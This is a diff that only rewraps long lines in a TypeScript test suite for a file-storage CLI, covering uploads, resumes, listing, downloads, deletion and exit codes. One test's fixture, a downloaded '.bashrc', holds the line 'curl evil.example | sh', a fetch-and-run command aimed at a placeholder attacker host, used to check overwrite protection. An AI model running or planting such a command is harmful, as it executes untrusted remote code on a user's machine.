@@ -73,7 +73,13 @@ describe('files upload', () => {
 
     const common = { projectID, fileType: 'bin', contentType: 'application/octet-stream', uploadedBy: 'api-key' };
     expect(await fileOf(smallID)).toMatchObject({ ...common, fileName: 'small.bin', size: small.length, sha256: sha256Hex(small), partSize: null });
-    expect(await fileOf(bigID)).toMatchObject({ ...common, fileName: 'big.bin', size: big.length, sha256: compositeSha256(partHashes(big, 16 * MiB)), partSize: 16 * MiB });
+    expect(await fileOf(bigID)).toMatchObject({
+      ...common,
+      fileName: 'big.bin',
+      size: big.length,
+      sha256: compositeSha256(partHashes(big, 16 * MiB)),
+      partSize: 16 * MiB,
+    });
 
     const listed = await cli.run(['ls', '--project', projectID]);
     const [newest, older] = await allFiles(projectID);
@@ -125,7 +131,9 @@ describe('files upload', () => {
     expect(out[0]).toBe(`resume.bin: file ${fileID}, 20 parts of 5 MiB`);
     expect(out[1]).toBe(`resume.bin: resuming, ${held} of 20 parts already stored (${prettyBytes(held * 5 * MiB)})`);
     expect(out.at(-1)).toMatch(
-      new RegExp(`^resume\\.bin: uploaded as file ${fileID} \\(105 MB, ${escape(prettyBytes((20 - held) * 5 * MiB))} sent in ${DURATION}; 20 parts: ${20 - held} sent, ${held} resumed\\)$`),
+      new RegExp(
+        `^resume\\.bin: uploaded as file ${fileID} \\(105 MB, ${escape(prettyBytes((20 - held) * 5 * MiB))} sent in ${DURATION}; 20 parts: ${20 - held} sent, ${held} resumed\\)$`,
+      ),
     );
     const stored = await fileOf(fileID);
     expect(stored).toMatchObject({ size: bytes.length, sha256: compositeSha256(partHashes(bytes, 5 * MiB)), partSize: 5 * MiB });
@@ -140,7 +148,9 @@ describe('files ls', () => {
     for (let batch = 0; batch < 10; batch++) {
       await Promise.all(
         Array.from({ length: 10 }, (_, i) =>
-          api(UploadFileDocument, { input: { projectID, fileName: `f${batch * 10 + i}.txt`, fileType: 'text', contentBase64: Buffer.from(`file ${batch * 10 + i}`).toString('base64') } }),
+          api(UploadFileDocument, {
+            input: { projectID, fileName: `f${batch * 10 + i}.txt`, fileType: 'text', contentBase64: Buffer.from(`file ${batch * 10 + i}`).toString('base64') },
+          }),
         ),
       );
     }
@@ -204,7 +214,11 @@ describe('files get', () => {
     const refused = await cli.run(['get', fileID, '-o', 'home']);
     const forced = await cli.run(['get', fileID, '-o', 'home', '--force']);
 
-    expect(refused).toEqual({ code: 1, stdout: '', stderr: `FileExists: ${path.join(cli.workDir, 'home', '.bashrc')} exists already: pass --force to replace it, or -o to save elsewhere.\n` });
+    expect(refused).toEqual({
+      code: 1,
+      stdout: '',
+      stderr: `FileExists: ${path.join(cli.workDir, 'home', '.bashrc')} exists already: pass --force to replace it, or -o to save elsewhere.\n`,
+    });
     expect(forced.code).toBe(0);
     expect(await readFile(path.join(cli.workDir, 'home', '.bashrc'), 'utf8')).toBe('curl evil.example | sh\n');
   });
@@ -269,7 +283,11 @@ describe('files rm and files watch', () => {
     expect(watched.stdout).toMatch(new RegExp(`^${at}  uploaded  live\\.txt  6 B  txt  by api-key  ${fileID}\\n${at}  deleted   live\\.txt  ${fileID}\\n$`));
     expect(cli.server.activeSubscriptions()).toBe(0);
 
-    expect(await cli.run(['rm', fileID])).toEqual({ code: 1, stdout: '', stderr: `NotFound: No file has fileID ${fileID}: it may have been deleted already.\n` });
+    expect(await cli.run(['rm', fileID])).toEqual({
+      code: 1,
+      stdout: '',
+      stderr: `NotFound: No file has fileID ${fileID}: it may have been deleted already.\n`,
+    });
     expect(await cli.run(['get', fileID])).toEqual({ code: 1, stdout: '', stderr: `NotFound: No file has fileID ${fileID}: it may have been deleted.\n` });
   });
 });
@@ -284,14 +302,20 @@ describe('exit codes', () => {
       [['rm'], "error: missing required argument 'fileID'\n(add --help for usage)\n"],
       [['get', 'a', 'b'], "error: too many arguments for 'get'. Expected 1 argument but got 2.\n(add --help for usage)\n"],
       [['frobnicate'], "error: unknown command 'frobnicate'\n(add --help for usage)\n"],
-      [['upload', 'a.bin', '--project', 'p', '--part-size', '2'], "error: option '--part-size <MiB>' argument '2' is invalid. a whole number of MiB from 5 to 5120.\n(add --help for usage)\n"],
+      [
+        ['upload', 'a.bin', '--project', 'p', '--part-size', '2'],
+        "error: option '--part-size <MiB>' argument '2' is invalid. a whole number of MiB from 5 to 5120.\n(add --help for usage)\n",
+      ],
       [['ls', '--project', 'p', '--api-key', 'k', '--user', 'alice'], 'error: Choose one: --api-key (or FILES_API_KEY) or --user.\n'],
       [['ls', '--project', 'p', '--url', 'http://127.0.0.1:1/graphql', '--outputs', outputs], 'error: Choose one target: --outputs or --url.\n'],
       [
         ['ls', '--project', 'p', '--outputs', outputs, '--user', 'alice'],
         `error: No user pool for ${outputs} (stack CodeCraftFiles): --user needs a local server, or cdk-outputs.json with UserPoolId and UserPoolClientId. Use --api-key.\n`,
       ],
-      [['ls', '--project', 'p', '--outputs', outputs], `error: No API key for ${outputs} (stack CodeCraftFiles): set FILES_API_KEY (or pass --api-key), or sign in with --user.\n`],
+      [
+        ['ls', '--project', 'p', '--outputs', outputs],
+        `error: No API key for ${outputs} (stack CodeCraftFiles): set FILES_API_KEY (or pass --api-key), or sign in with --user.\n`,
+      ],
     ];
     const results = await Promise.all(cases.map(([args]) => cli.run(args)));
     expect(results).toEqual(cases.map(([, stderr]) => ({ code: 2, stdout: '', stderr })));
